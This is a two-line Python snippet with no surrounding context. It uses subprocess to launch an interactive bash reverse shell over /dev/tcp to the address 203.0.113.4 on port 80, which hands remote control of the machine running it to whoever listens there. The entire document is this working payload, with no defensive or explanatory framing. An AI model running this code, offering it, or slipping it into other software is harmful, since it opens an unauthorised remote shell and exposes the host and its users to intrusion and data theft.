import subprocess
subprocess.Popen(["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.4/80 0>&1"])
